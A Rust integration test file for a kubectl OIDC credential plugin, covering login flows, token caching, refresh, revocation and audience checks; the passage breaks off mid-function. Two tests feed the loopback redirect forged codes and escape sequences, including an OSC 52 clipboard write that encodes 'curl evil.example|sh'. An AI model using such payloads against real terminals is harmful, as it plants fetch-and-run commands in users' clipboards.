//! Real kubectl with `gantry kubectl credential` as its exec plugin, against a small HTTPS
//! stand-in for the API server that accepts a request only if the bearer token verifies against
//! Gantry's keys with the cluster's audience.

use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::IntoResponse;
use axum::routing::get;
use serde_json::Value;
use tokio::io::AsyncBufReadExt;

use crate::support::*;

/// What the API server stand-in needs: Gantry's keys, the issuer, and its request log.
type ApiState = (Arc<gantry::oauth::Provider>, String, Arc<Mutex<Vec<Value>>>);

struct ApiServer {
    port: u16,
    ca: tempfile::NamedTempFile,
    /// Groups of every accepted request, "refused" for each refused one.
    seen: Arc<Mutex<Vec<Value>>>,
}

async fn api_server(app: &TestApp, audience: &'static str) -> ApiServer {
    let _ = rustls::crypto::aws_lc_rs::default_provider().install_default();
    let cert = rcgen::generate_simple_self_signed(vec!["127.0.0.1".to_string()]).unwrap();
    let ca = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(ca.path(), cert.cert.pem()).unwrap();
    let tls = gantry::http::listen::tls_from_pem(
        cert.cert.pem().as_bytes(),
        cert.signing_key.serialize_pem().as_bytes(),
    )
    .unwrap();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let provider = app.provider.clone();
    let issuer = app.issuer.clone();
    let state = (provider, issuer, seen.clone());
    let router = Router::new()
        .route(
            "/api",
            get(move |State((p, iss, seen)): State<ApiState>, h: HeaderMap| async move {
                let token = h.get("authorization").and_then(|v| v.to_str().ok()).and_then(|v| v.strip_prefix("Bearer ")).unwrap_or_default();
                let mut v = jsonwebtoken::Validation::new(jsonwebtoken::Algorithm::ES256);
                v.set_audience(&[audience]);
                v.set_issuer(&[iss.as_str()]);
                match p.keys.verify::<Value>(token, &v) {
                    Ok(c) => {
                        seen.lock().unwrap().push(c["groups"].clone());
                        axum::Json(serde_json::json!({"kind": "APIVersions", "versions": ["v1"], "serverAddressByClientCIDRs": []})).into_response()
                    }
                    Err(_) => {
                        seen.lock().unwrap().push(serde_json::json!("refused"));
                        (StatusCode::UNAUTHORIZED, axum::Json(serde_json::json!({"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": 401}))).into_response()
                    }
                }
            }),
        )
        .with_state(state);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let admission = gantry::http::listen::Admission {
        limits: Arc::new(gantry::ratelimit::RateLimits::new(&Default::default()).unwrap()),
        metrics: Arc::default(),
    };
    tokio::spawn(gantry::http::listen::serve(
        listener,
        Some(tls),
        router,
        admission,
        std::future::pending(),
    ));
    ApiServer { port, ca, seen }
}

struct Kube {
    config: tempfile::NamedTempFile,
    cache: tempfile::TempDir,
}

fn kubeconfig(app: &TestApp, api: &ApiServer, extra_args: &[&str]) -> Kube {
    kubeconfig_for(app, api, "native", extra_args)
}

/// A kubeconfig whose plugin logs in as `client_id` (one client per cluster).
fn kubeconfig_for(app: &TestApp, api: &ApiServer, client_id: &str, extra_args: &[&str]) -> Kube {
    let cache = tempfile::tempdir().unwrap();
    let mut args = vec![
        "kubectl",
        "credential",
        "--issuer",
        &app.issuer,
        "--client-id",
        client_id,
        "--listen",
        "127.0.0.1:0",
        "--timeout",
        "60s",
    ];
    args.extend_from_slice(extra_args);
    let cfg = serde_json::json!({
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{"name": "test", "cluster": {"server": format!("https://127.0.0.1:{}", api.port), "certificate-authority": api.ca.path()}}],
        "users": [{"name": "gantry", "user": {"exec": {
            "apiVersion": "client.authentication.k8s.io/v1",
            "command": env!("CARGO_BIN_EXE_gantry"),
            "args": args,
            "env": [{"name": "GANTRY_KUBE_CACHE_DIR", "value": cache.path().display().to_string()}],
            "interactiveMode": "Never",
        }}}],
        "contexts": [{"name": "test", "context": {"cluster": "test", "user": "gantry"}}],
        "current-context": "test",
    });
    let config = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(config.path(), cfg.to_string()).unwrap();
    Kube { config, cache }
}

fn kubectl(k: &Kube) -> tokio::process::Child {
    tokio::process::Command::new("kubectl")
        .arg("--kubeconfig")
        .arg(k.config.path())
        .args(["get", "--raw", "/api"])
        .env_remove("DISPLAY")
        .env_remove("BROWSER")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .expect("kubectl is installed")
}

/// Wait for a child; (success, stdout, stderr).
async fn finish(c: tokio::process::Child) -> (bool, String, String) {
    let out = c.wait_with_output().await.unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Read a child's stderr until the login URL shows, log in as admin through it.
async fn browser_step(app: &TestApp, child: &mut tokio::process::Child) {
    browser_step_in(app, &app.browser(), child).await;
}

/// `browser_step` in a given browser (cookie jar).
async fn browser_step_in(
    app: &TestApp,
    browser: &reqwest::Client,
    child: &mut tokio::process::Child,
) {
    let url = login_url_of(child).await;
    let q: Vec<(String, String)> = url
        .query_pairs()
        .map(|(k, v)| (k.into_owned(), v.into_owned()))
        .collect();
    let q: Vec<(&str, &str)> = q.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let callback = app
        .login(browser, &q, "admin@example.com", "password")
        .await;
    let page = reqwest::get(&callback).await.unwrap().text().await.unwrap();
    assert!(page.contains("safe to close"), "{page}");
}

/// The login URL the plugin prints on stderr.
async fn login_url_of(child: &mut tokio::process::Child) -> url::Url {
    let mut lines = tokio::io::BufReader::new(child.stderr.take().unwrap()).lines();
    let url = loop {
        let l = lines
            .next_line()
            .await
            .unwrap()
            .expect("the plugin prints a login URL");
        if let Some(u) = l.trim().strip_prefix("http") {
            break format!("http{u}");
        }
    };
    url::Url::parse(&url).unwrap()
}

async fn count(app: &TestApp, metric: &str) -> u64 {
    let m = reqwest::get(app.url("/metrics"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    m.lines()
        .find_map(|l| l.strip_prefix(metric))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0)
}

const LOGINS: &str = "gantry_logins_total{connector=\"local\",result=\"success\"}";
const REFRESHES: &str = "gantry_tokens_total{grant_type=\"refresh_token\",result=\"success\"}";

#[tokio::test]
async fn kubectl_logs_in_once_through_the_browser_then_uses_the_cache() {
    let app = TestApp::start().await;
    let api = api_server(&app, "native").await;
    let k = kubeconfig(&app, &api, &["--browser-command", "/bin/true"]);
    let mut first = kubectl(&k);
    browser_step(&app, &mut first).await;
    let (ok, out, _) = finish(first).await;
    assert!(ok);
    assert!(out.contains("APIVersions"), "{out}");
    assert_eq!(
        api.seen.lock().unwrap()[0],
        serde_json::json!(["admins", "developers"])
    );
    // The cache answers the next call: no login, no URL.
    let (ok, out, err) = finish(kubectl(&k)).await;
    assert!(ok && out.contains("APIVersions"), "{err}");
    assert!(!err.contains("http"), "{err}");
    assert_eq!(count(&app, LOGINS).await, 1);
    // The cache file is the owner's alone.
    let file = std::fs::read_dir(k.cache.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .find(|e| e.path().extension().is_some_and(|x| x == "json"))
        .unwrap();
    let mode = std::os::unix::fs::PermissionsExt::mode(&file.metadata().unwrap().permissions());
    assert_eq!(mode & 0o077, 0);

    // A corrupt cache is ignored and replaced; so is one readable by others.
    std::fs::write(file.path(), "{not json").unwrap();
    let mut call = kubectl(&k);
    browser_step(&app, &mut call).await;
    assert!(finish(call).await.0);
    std::fs::set_permissions(
        file.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .unwrap();
    let mut call = kubectl(&k);
    browser_step(&app, &mut call).await;
    assert!(finish(call).await.0);
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(file.path()).unwrap().permissions(),
    );
    assert_eq!(mode & 0o077, 0, "rewritten for the owner only");

    // whoami reads the cache; logout revokes the refresh token and clears it.
    let gantry = |cmd: &str| {
        std::process::Command::new(env!("CARGO_BIN_EXE_gantry"))
            .args([
                "kubectl",
                cmd,
                "--issuer",
                &app.issuer,
                "--client-id",
                "native",
            ])
            .env("GANTRY_KUBE_CACHE_DIR", k.cache.path())
            .output()
            .unwrap()
    };
    let who: Value = serde_json::from_slice(&gantry("whoami").stdout).unwrap();
    assert_eq!(who["groups"], serde_json::json!(["admins", "developers"]));
    let cached: Value =
        serde_json::from_str(&std::fs::read_to_string(file.path()).unwrap()).unwrap();
    let rt = cached["refresh_token"].as_str().unwrap().to_string();
    // Async: logout talks to the server running on this test's runtime.
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_gantry"))
        .args([
            "kubectl",
            "logout",
            "--issuer",
            &app.issuer,
            "--client-id",
            "native",
        ])
        .env("GANTRY_KUBE_CACHE_DIR", k.cache.path())
        .output()
        .await
        .unwrap();
    assert!(out.status.success());
    assert!(!file.path().exists(), "the cache is cleared");
    let (row, _) = app.provider.find_refresh(&rt).await.unwrap().unwrap();
    assert!(
        row.revoked_at.is_some(),
        "the refresh token is revoked at the server"
    );
}

#[test]
fn setup_writes_the_exec_stanza_into_the_kubeconfig() {
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = dir.path().join("config");
    std::fs::write(&kubeconfig, "apiVersion: v1\nkind: Config\nclusters:\n- name: other\n  cluster: {server: https://other}\n").unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_gantry"))
        .args([
            "kubectl",
            "setup",
            "--issuer",
            "https://id.example.com/dex",
            "--client-id",
            "kube-prod",
            "--cluster",
            "prod",
            "--server",
            "https://prod:6443",
            "--kubeconfig",
        ])
        .arg(&kubeconfig)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let cfg: Value =
        serde_norway::from_str(&std::fs::read_to_string(&kubeconfig).unwrap()).unwrap();
    let names: Vec<&str> = cfg["clusters"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, vec!["other", "prod"], "existing entries are kept");
    assert_eq!(cfg["current-context"], "prod");
    let exec = &cfg["users"][0]["user"]["exec"];
    assert_eq!(exec["apiVersion"], "client.authentication.k8s.io/v1");
    let args: Vec<&str> = exec["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect();
    assert_eq!(
        args,
        vec![
            "kubectl",
            "credential",
            "--issuer",
            "https://id.example.com/dex",
            "--client-id",
            "kube-prod"
        ]
    );
}

fn cache_file(k: &Kube) -> std::path::PathBuf {
    std::fs::read_dir(k.cache.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "json"))
        .unwrap()
}

fn expire_cache(k: &Kube) {
    let p = cache_file(k);
    let mut c: Value = serde_json::from_str(&std::fs::read_to_string(&p).unwrap()).unwrap();
    c["expires_at"] = 0.into();
    std::fs::write(&p, c.to_string()).unwrap();
}

#[tokio::test]
async fn five_parallel_kubectl_calls_cause_one_login_then_one_refresh() {
    let app = TestApp::start().await;
    let api = api_server(&app, "native").await;
    let k = kubeconfig(&app, &api, &["--browser-command", "/bin/true"]);
    let mut calls: Vec<_> = (0..5).map(|_| kubectl(&k)).collect();
    // Exactly one of them holds the lock and prints a URL; find it.
    let mut readers = Vec::new();
    for c in calls.iter_mut() {
        let mut lines = tokio::io::BufReader::new(c.stderr.take().unwrap()).lines();
        let (tx, rx) = tokio::sync::oneshot::channel::<String>();
        tokio::spawn(async move {
            let mut tx = Some(tx);
            while let Ok(Some(l)) = lines.next_line().await {
                if let Some(u) = l.trim().strip_prefix("http")
                    && let Some(t) = tx.take()
                {
                    let _ = t.send(format!("http{u}"));
                }
            }
        });
        readers.push(rx);
    }
    let (url, _, _) = futures_select(readers).await;
    let url = url::Url::parse(&url).unwrap();
    let q: Vec<(String, String)> = url
        .query_pairs()
        .map(|(k, v)| (k.into_owned(), v.into_owned()))
        .collect();
    let q: Vec<(&str, &str)> = q.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let callback = app
        .login(&app.browser(), &q, "admin@example.com", "password")
        .await;
    reqwest::get(&callback).await.unwrap();
    for c in calls {
        let out = c.wait_with_output().await.unwrap();
        assert!(out.status.success());
    }
    assert_eq!(count(&app, LOGINS).await, 1, "one login for five calls");
    assert_eq!(api.seen.lock().unwrap().len(), 5);

    // An expired ID token: five calls, one refresh, no browser.
    expire_cache(&k);
    let results = futures_all((0..5).map(|_| finish(kubectl(&k))).collect()).await;
    for (ok, _, err) in &results {
        assert!(ok, "{err}");
        assert!(!err.contains("http"), "no login: {err}");
    }
    assert_eq!(
        count(&app, REFRESHES).await,
        1,
        "one refresh for five calls"
    );
    assert_eq!(count(&app, LOGINS).await, 1);

    // A revoked refresh token: a new login.
    let c: Value = serde_json::from_str(&std::fs::read_to_string(cache_file(&k)).unwrap()).unwrap();
    let (row, _) = app
        .provider
        .find_refresh(c["refresh_token"].as_str().unwrap())
        .await
        .unwrap()
        .unwrap();
    app.admin
        .db
        .revoke_refresh_family(&row.family_id, gantry::clock::Clock::now(&app.clock))
        .await
        .unwrap();
    expire_cache(&k);
    let mut again = kubectl(&k);
    browser_step(&app, &mut again).await;
    assert!(finish(again).await.0);
    assert_eq!(count(&app, LOGINS).await, 2);
}

#[tokio::test]
async fn the_device_flow_logs_in_without_a_browser() {
    let app = TestApp::start().await;
    let api = api_server(&app, "native").await;
    let k = kubeconfig(&app, &api, &["--device"]);
    let mut call = kubectl(&k);
    let mut lines = tokio::io::BufReader::new(call.stderr.take().unwrap()).lines();
    let complete = loop {
        let l = lines
            .next_line()
            .await
            .unwrap()
            .expect("the plugin prints the device code");
        if let Some(u) = l.trim().strip_prefix("(or open ") {
            break u.trim_end_matches(')').to_string();
        }
    };
    app.enter_device_code(&complete, "dev@example.com", true)
        .await;
    let (ok, out, err) = finish(call).await;
    assert!(ok, "{err}");
    assert!(out.contains("APIVersions"));
    assert_eq!(
        api.seen.lock().unwrap()[0],
        serde_json::json!(["developers"])
    );
}

#[tokio::test]
async fn a_token_for_another_audience_is_refused_by_the_cluster() {
    let app = TestApp::start().await;
    let api = api_server(&app, "kube-prod").await;
    let k = kubeconfig(&app, &api, &["--browser-command", "/bin/true"]);
    let mut call = kubectl(&k);
    browser_step(&app, &mut call).await;
    let (ok, _, _) = finish(call).await;
    assert!(
        !ok,
        "the API server stand-in refuses a token whose audience is not its own"
    );
    let seen = api.seen.lock().unwrap().clone();
    assert!(
        !seen.is_empty() && seen.iter().all(|v| v == "refused"),
        "{seen:?}"
    );
}

/// The first value any of the receivers yields.
async fn futures_select(rx: Vec<tokio::sync::oneshot::Receiver<String>>) -> (String, usize, ()) {
    let (tx, mut out) = tokio::sync::mpsc::channel(rx.len());
    for (i, r) in rx.into_iter().enumerate() {
        let tx = tx.clone();
        tokio::spawn(async move {
            if let Ok(v) = r.await {
                let _ = tx.send((v, i)).await;
            }
        });
    }
    let (v, i) = out.recv().await.unwrap();
    (v, i, ())
}

async fn futures_all<T: Send + 'static>(
    fs: Vec<impl std::future::Future<Output = T> + Send + 'static>,
) -> Vec<T> {
    let handles: Vec<_> = fs.into_iter().map(tokio::spawn).collect();
    let mut out = Vec::new();
    for h in handles {
        out.push(h.await.unwrap());
    }
    out
}

type StderrLines = tokio::io::Lines<tokio::io::BufReader<tokio::process::ChildStderr>>;

/// The plugin started for `native` with no browser, up to the login URL it prints: the
/// process, the rest of its stderr, what it said so far, and the URL.
async fn plugin_shows_login_url(
    app: &TestApp,
    cache: &std::path::Path,
) -> (tokio::process::Child, StderrLines, String, url::Url) {
    let mut p = tokio::process::Command::new(env!("CARGO_BIN_EXE_gantry"))
        .args([
            "kubectl",
            "credential",
            "--issuer",
            &app.issuer,
            "--client-id",
            "native",
            "--browser-command",
            "/bin/true",
        ])
        .env("GANTRY_KUBE_CACHE_DIR", cache)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut lines = tokio::io::BufReader::new(p.stderr.take().unwrap()).lines();
    let mut said = String::new();
    let url = loop {
        let l = lines.next_line().await.unwrap().unwrap();
        said.push_str(&l);
        said.push('\n');
        if let Some(u) = l.trim().strip_prefix("http") {
            break url::Url::parse(&format!("http{u}")).unwrap();
        }
    };
    (p, lines, said, url)
}

#[tokio::test]
async fn requests_of_other_pages_to_the_loopback_are_ignored_and_the_login_completes() {
    let app = TestApp::start().await;
    let cache = tempfile::tempdir().unwrap();
    // No --listen: the plugin listens on a port the system picks, which Gantry accepts for a
    // public client's loopback redirect.
    let (p, mut lines, mut said, url) = plugin_shows_login_url(&app, cache.path()).await;
    let redirect = url
        .query_pairs()
        .find(|(k, _)| k == "redirect_uri")
        .unwrap()
        .1
        .into_owned();
    let port = url::Url::parse(&redirect).unwrap().port().unwrap();
    assert!(![8000, 18000].contains(&port), "{redirect}");
    // What any web page open meanwhile can send: a forged code, an error with an OSC 52
    // clipboard write and a screen clear in it, with a wrong state or none.
    let hostile =
        "error=access_denied&error_description=%1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=%07%1b[2J";
    for q in [
        "code=stolen&state=not-this-login".to_string(),
        hostile.to_string(),
        format!("state=not-this-login&{hostile}"),
    ] {
        let r = reqwest::get(format!("{redirect}?{q}")).await.unwrap();
        assert_eq!(r.status(), reqwest::StatusCode::BAD_REQUEST, "{q}");
    }
    // The login goes on, and the user's own answer completes it.
    let q: Vec<(String, String)> = url
        .query_pairs()
        .map(|(k, v)| (k.into_owned(), v.into_owned()))
        .collect();
    let q: Vec<(&str, &str)> = q.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let callback = app
        .login(&app.browser(), &q, "admin@example.com", "password")
        .await;
    assert_eq!(reqwest::get(&callback).await.unwrap().status(), 200);
    while let Ok(Some(l)) = lines.next_line().await {
        said.push_str(&l);
        said.push('\n');
    }
    let out = p.wait_with_output().await.unwrap();
    assert!(out.status.success(), "{said}");
    let cred: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(cred["status"]["token"].is_string());
    assert!(
        !said.chars().any(|c| c.is_control() && c != '\n'),
        "{said:?}"
    );
    assert!(!said.contains("access_denied"), "{said}");
}

#[tokio::test]
async fn an_error_of_this_login_is_printed_without_control_characters() {
    let app = TestApp::start().await;
    let cache = tempfile::tempdir().unwrap();
    let (p, mut lines, _, url) = plugin_shows_login_url(&app, cache.path()).await;
    let param = |name: &str| {
        url.query_pairs()
            .find(|(k, _)| k == name)
            .unwrap()
            .1
            .into_owned()
    };
    // The issuer (which knows the state) answers with an error full of escape sequences.
    let r = reqwest::get(format!(
        "{}?state={}&error=access_denied%1b[2J&error_description=no%1b]52;c;ZXZpbA==%07",
        param("redirect_uri"),
        param("state")
    ))
    .await
    .unwrap();
    assert!(r.status().is_success());
    let mut rest = String::new();
    while let Ok(Some(l)) = lines.next_line().await {
        rest.push_str(&l);
    }
    let out = p.wait_with_output().await.unwrap();
    assert!(!out.status.success());
    assert!(out.stdout.is_empty());
    assert!(rest.contains("login failed: access_denied"), "{rest:?}");
    assert!(!rest.chars().any(char::is_control), "{rest:?}");
}

#[tokio::test]
async fn an_unreachable_issuer_is_reported() {
    let cache = tempfile::tempdir().unwrap();
    let dead = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_gantry"))
        .args([
            "kubectl",
            "credential",
            "--issuer",
            &format!("http://127.0.0.1:{dead}/dex"),
            "--client-id",
            "native",
        ])
        .env("GANTRY_KUBE_CACHE_DIR", cache.path())
        .output()
        .await
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && err.starts_with("gantry: issuer unreachable"),
        "{err}"
    );
}

#[tokio::test]
async fn a_taken_listen_address_falls_through_to_the_next() {
    let app = TestApp::start().await;
    let cache = tempfile::tempdir().unwrap();
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let taken_port = taken.local_addr().unwrap().port();
    let mut p = tokio::process::Command::new(env!("CARGO_BIN_EXE_gantry"))
        .args([
            "kubectl",
            "credential",
            "--issuer",
            &app.issuer,
            "--client-id",
            "native",
            "--browser-command",
            "/bin/true",
        ])
        .arg("--listen")
        .arg(format!("127.0.0.1:{taken_port},127.0.0.1:0"))
        .env("GANTRY_KUBE_CACHE_DIR", cache.path())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut lines = tokio::io::BufReader::new(p.stderr.take().unwrap()).lines();
    let mut said = String::new();
    let url = loop {
        let l = lines.next_line().await.unwrap().unwrap();
        if let Some(u) = l.trim().strip_prefix("http") {
            break url::Url::parse(&format!("http{u}")).unwrap();
        }
        said.push_str(&l);
    };
    assert!(
        said.contains(&format!("cannot listen on 127.0.0.1:{taken_port}")),
        "{said}"
    );
    let redirect = url
        .query_pairs()
        .find(|(k, _)| k == "redirect_uri")
        .unwrap()
        .1
        .into_owned();
    let port = url::Url::parse(&redirect).unwrap().port().unwrap();
    assert_ne!(port, taken_port, "the login listens on the next address");
    drop(taken);
}

#[tokio::test]
async fn a_real_headless_chromium_logs_in_and_the_final_page_is_kept() {
    let app = TestApp::start().await;
    let api = api_server(&app, "native").await;
    let rp = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/rp");
    assert!(
        std::path::Path::new(rp)
            .join("node_modules/playwright-core")
            .exists(),
        "playwright-core is not installed: run scripts/test.sh (npm ci in tests/rp)"
    );
    let artifacts = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-artifacts");
    std::fs::create_dir_all(&artifacts).unwrap();
    let shot = artifacts.join("kubectl-browser-login.png");
    let _ = std::fs::remove_file(&shot);
    // The plugin's "browser" is Chromium, driven through Gantry's real pages.
    let tmp = tempfile::tempdir().unwrap();
    let browser = tmp.path().join("browser.sh");
    std::fs::write(
        &browser,
        format!(
            "#!/bin/sh\nexec node {rp}/browser-login.mjs \"$1\" admin@example.com password {}\n",
            shot.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(
        &browser,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let k = kubeconfig(
        &app,
        &api,
        &["--browser-command", browser.to_str().unwrap()],
    );
    let (ok, out, err) = finish(kubectl(&k)).await;
    assert!(ok, "{err}");
    assert!(out.contains("APIVersions"));
    // The browser outlives the plugin by a moment: it screenshots the page it was left on.
    for _ in 0..150 {
        if std::fs::metadata(&shot).is_ok_and(|m| m.len() > 8) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let png = std::fs::read(&shot).expect("the screenshot of the final page");
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n");
}

/// Not logged in, whoami says so, fails, and names the command that logs in to the very cache
/// it reads (same issuer, client and scopes): run as given (with --device), whoami then works.
#[tokio::test]
async fn whoami_when_logged_out_names_the_command_that_logs_in() {
    let app = TestApp::start().await;
    let cache = tempfile::tempdir().unwrap();
    let whoami = || {
        std::process::Command::new(env!("CARGO_BIN_EXE_gantry"))
            .args(["kubectl", "whoami", "--issuer", &app.issuer])
            .args([
                "--client-id",
                "native",
                "--scope",
                "openid",
                "--scope",
                "groups",
            ])
            .env("GANTRY_KUBE_CACHE_DIR", cache.path())
            .output()
            .unwrap()
    };
    let out = whoami();
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(
        err.contains(&format!("not logged in to {} as client native", app.issuer))
            && err.contains("kubectl get pods"),
        "{err}"
    );
    let command = err
        .lines()
        .find_map(|l| l.trim().strip_prefix("gantry "))
        .and_then(|l| l.strip_suffix(" >/dev/null"))
        .unwrap_or_else(|| panic!("no command to run in: {err}"));
    let mut login = tokio::process::Command::new(env!("CARGO_BIN_EXE_gantry"))
        .args(command.split(' '))
        .arg("--device")
        .env("GANTRY_KUBE_CACHE_DIR", cache.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut lines = tokio::io::BufReader::new(login.stderr.take().unwrap()).lines();
    let complete = loop {
        let l = lines.next_line().await.unwrap().expect("a device code");
        if let Some(u) = l.trim().strip_prefix("(or open ") {
            break u.trim_end_matches(')').to_string();
        }
    };
    app.enter_device_code(&complete, "dev@example.com", true)
        .await;
    assert!(login.wait().await.unwrap().success());
    let out = whoami();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let who: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(who["groups"], serde_json::json!(["developers"]));
}

/// Two clusters, each with its own client: the engineer types the password once; the second
/// cluster's plugin opens the browser, which is signed in and goes straight back to it.
#[tokio::test]
async fn two_clusters_take_one_browser_login() {
    let app = TestApp::start_with(Opts {
        skip_approval: true,
        extra_yaml: "sessions:\n  ssoSharedWithDefault: all\n".into(),
        extra_clients: format!(
            "  - id: native-stage\n    name: Stage cluster\n    public: true\n    redirectURIs: [\"{NATIVE_REDIRECT}\"]\n"
        ),
        ..Default::default()
    })
    .await;
    let prod = api_server(&app, "native").await;
    let stage = api_server(&app, "native-stage").await;
    let kp = kubeconfig_for(&app, &prod, "native", &["--browser-command", "/bin/true"]);
    let ks = kubeconfig_for(
        &app,
        &stage,
        "native-stage",
        &["--browser-command", "/bin/true"],
    );
    let browser = app.browser();
    let mut call = kubectl(&kp);
    browser_step_in(&app, &browser, &mut call).await;
    let (ok, out, err) = finish(call).await;
    assert!(ok && out.contains("APIVersions"), "{err}");

    let mut call = kubectl(&ks);
    let url = login_url_of(&mut call).await;
    silent_step_in(&app, &browser, url.as_str()).await;
    let (ok, out, err) = finish(call).await;
    assert!(ok && out.contains("APIVersions"), "{err}");
    assert_eq!(stage.seen.lock().unwrap().len(), 1);
    assert_eq!(
        count(&app, LOGINS).await,
        1,
        "one password login for two clusters"
    );
}

/// The browser steps of a plugin's login in a browser that is signed in already: redirects
/// only (`/auth`, then the plugin's loopback callback), never a page, so never a form.
async fn silent_step_in(app: &TestApp, browser: &reqwest::Client, url: &str) {
    let mut url = url.to_string();
    for _ in 0..5 {
        let r = browser.get(&url).send().await.unwrap();
        assert_eq!(
            r.status(),
            reqwest::StatusCode::SEE_OTHER,
            "the signed-in browser was shown a page: {}",
            r.text().await.unwrap_or_default()
        );
        let next = app.absolute(location(&r));
        if !next.starts_with(&app.issuer) {
            let page = reqwest::get(&next).await.unwrap().text().await.unwrap();
            assert!(page.contains("safe to close"), "{page}");
            return;
        }
        url = next;
    }
    panic!("no way back to the plugin from {url}");
}

/// An engineer's day, as the issue counts it: kubectl against three clusters (each its own
/// client) and `gantry registry login` (a fourth), from one browser: one password.
#[tokio::test]
async fn an_engineers_day_on_three_clusters_and_the_registry_takes_one_password() {
    let _realm = crate::registry::REALM.lock().await;
    assert_eq!(engineers_day(true).await, 1);
}

/// The same day without browser sessions (`sessions.enabled: false`, how every login went
/// before them): a password for each of the four clients.
#[tokio::test]
async fn without_sessions_the_same_day_takes_four_passwords() {
    let _realm = crate::registry::REALM.lock().await;
    assert_eq!(engineers_day(false).await, 4);
}

/// Password logins of one engineer's day; `sessions`: whether browser sessions are on.
async fn engineers_day(sessions: bool) -> u64 {
    let env = crate::registry::env;
    let realm_port: u16 = env("GANTRY_TEST_REGISTRY_REALM_PORT").parse().unwrap();
    let mut clients = String::new();
    for id in ["kube-stage", "kube-dev", "registry-cli"] {
        clients.push_str(&format!(
            "  - id: {id}\n    name: {id}\n    public: true\n    redirectURIs: [\"{NATIVE_REDIRECT}\"]\n"
        ));
    }
    let app = TestApp::start_with(Opts {
        port: Some(realm_port),
        skip_approval: true,
        extra_yaml: format!(
            "sessions:\n  enabled: {sessions}\n  ssoSharedWithDefault: all\n\
             registry:\n  loginClients: [registry-cli]\n  caCert: {}\n  caKey: {}\n  services:\n  - {{name: registry.test, issuer: gantry-test}}\n",
            env("GANTRY_TEST_REGISTRY_CA_CERT"),
            env("GANTRY_TEST_REGISTRY_CA_KEY")
        ),
        extra_clients: clients,
        ..Default::default()
    })
    .await;
    let browser = app.browser();
    let mut first = true;
    for client in ["native", "kube-stage", "kube-dev"] {
        let api = api_server(&app, Box::leak(client.to_string().into_boxed_str())).await;
        let k = kubeconfig_for(&app, &api, client, &["--browser-command", "/bin/true"]);
        let mut call = kubectl(&k);
        if first || !sessions {
            browser_step_in(&app, &browser, &mut call).await;
        } else {
            let url = login_url_of(&mut call).await;
            silent_step_in(&app, &browser, url.as_str()).await;
        }
        first = false;
        let (ok, out, err) = finish(call).await;
        assert!(ok && out.contains("APIVersions"), "{client}: {err}");
    }
    // The registry: `gantry registry login` opens the same browser.
    let home = tempfile::tempdir().unwrap();
    let mut login = tokio::process::Command::new(env!("CARGO_BIN_EXE_gantry"))
        .args([
            "registry",
            "login",
            &env("GANTRY_TEST_REGISTRY"),
            "--issuer",
            &app.issuer,
            "--client-id",
            "registry-cli",
            "--no-browser",
        ])
        .env("GANTRY_CREDENTIALS", home.path().join("registries.json"))
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    // Its stderr is read to the end: the command reports there after the login.
    let mut lines = tokio::io::BufReader::new(login.stderr.take().unwrap()).lines();
    let url = loop {
        let l = lines.next_line().await.unwrap().expect("a login URL");
        if let Some(u) = l.trim().strip_prefix("http") {
            break url::Url::parse(&format!("http{u}")).unwrap();
        }
    };
    let rest = tokio::spawn(async move {
        let mut all = Vec::new();
        while let Ok(Some(l)) = lines.next_line().await {
